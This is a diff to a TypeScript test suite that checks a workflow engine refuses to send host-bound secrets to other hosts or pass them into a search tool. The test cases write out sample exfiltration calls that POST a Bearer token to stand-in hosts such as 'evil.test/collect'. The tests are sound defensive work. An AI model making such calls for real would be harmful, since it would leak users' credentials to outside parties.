@@ -9,7 +9,9 @@ import { openEngine, type TestEngine } from "#/tests/support/engine.ts";
 
 const TOKEN = 'tk/live+9f"é 81^x=';
 const PASSWORD = "pa55-w0rd";
-const SECRETS: Readonly<Record<string, string>> = { TOKEN, PASSWORD, HOOK: "https://hooks.test/services/T0/B0/xyz", USER: "bob" };
+const SECRETS: Readonly<Record<string, string>> = { TOKEN, PASSWORD, HOOK: "https://hooks.test/services/T0/B0/xyz", USER: "bob", UNBOUND: "un-8ound-value", NARROW: "narr0w-value" };
+/** Of those that are not bound to both of the servers here. */
+const HOSTS: Readonly<Record<string, readonly string[] | null>> = { UNBOUND: null, NARROW: ["api.test:8443", "*.wide.test"] };
 /** However it is written down. */
 const forms = (value: string) => [value, encodeURIComponent(value), JSON.stringify(value).slice(1, -1), Buffer.from(value).toString("base64"), Buffer.from(value).toString("hex"), new URLSearchParams({ v: value }).toString().slice(2)];
 const BASIC = Buffer.from(`u:${PASSWORD}`).toString("base64");
@@ -54,7 +56,7 @@ describeOnEachEngine("a secret", (kind) => {
       ports: {
         secrets: async (names) => {
           asked.push([...names]);
-          return names.flatMap((name) => (name in SECRETS ? [{ name, open: () => SECRETS[name] ?? "" }] : []));
+          return names.flatMap((name) => (name in SECRETS ? [{ name, hosts: name in HOSTS ? (HOSTS[name] ?? null) : ["api.test", "hooks.test", "tool.test"], open: () => SECRETS[name] ?? "" }] : []));
         },
         fetch: async (request) => {
           sent.push(request);
@@ -115,6 +117,33 @@ describeOnEachEngine("a secret", (kind) => {
     expect((await engine.rows("side_effects", runId))[0]).toMatchObject({ target: "POST https://api.test/•••TOKEN/items?key=•••TOKEN", request: { body: '{"list":["•••TOKEN!"],"password":"•••PASSWORD"}' } });
     expect(JSON.stringify((await engine.run(runId))["output"])).toContain("Bearer •••TOKEN");
     expect(await leaks()).toEqual([]);
+  });
+
+  const sending = (url: string, secret: string) => graph({ call: { type: "http", method: "POST", url, headers: { authorization: `Bearer {{ secrets.${secret} }}` } } });
+
+  test.each([
+    ["another host", "https://evil.test/collect", "NARROW", "secret-elsewhere"],
+    ["the same host on another port", "https://api.test/", "NARROW", "secret-elsewhere"],
+    ["the domain itself, where its subdomains are meant", "https://wide.test/", "NARROW", "secret-elsewhere"],
+    ["a host that only ends the same", "https://evilwide.test/", "NARROW", "secret-elsewhere"],
+    ["a host that an input names", "https://{{ input.host }}/", "TOKEN", "secret-elsewhere"],
+    ["any host, while nobody has said which", "https://api.test/", "UNBOUND", "secret-unbound"],
+  ])("is not sent to %s, and no write is in doubt", async (_what, url, secret, code) => {
+    const runId = await start(sending(url, secret), { host: "evil.test" });
+    expect(sent).toEqual([]);
+    expect(await engine.run(runId)).toMatchObject({ status: "failed", error: { step: "call", code, message: expect.stringMatching(/admin/) as string } });
+    expect(await engine.rows("approvals", runId)).toEqual([]);
+    expect(await leaks()).toEqual([]);
+  });
+
+  test("is sent to the hosts it is bound to", async () => {
+    for (const url of ["https://api.test:8443/", "https://a.b.wide.test/x"]) await start(sending(url, "NARROW"));
+    expect(sent.map(({ url }) => url)).toEqual(["https://api.test:8443/", "https://a.b.wide.test/x"]);
+  });
+
+  test("is not given to a tool that sends elsewhere: not to the search, whose words go to the model of embeddings", async () => {
+    const runId = await start(graph({ call: { type: "tool", tool: "knowledge_search", input: { query: "about {{ secrets.TOKEN }}" } } }));
+    expect(await engine.run(runId)).toMatchObject({ status: "failed", error: { code: "secret-elsewhere" } });
   });
 
   test("is in no error, whether the target refuses, repeats it at the cut, or cannot be reached", async () => {
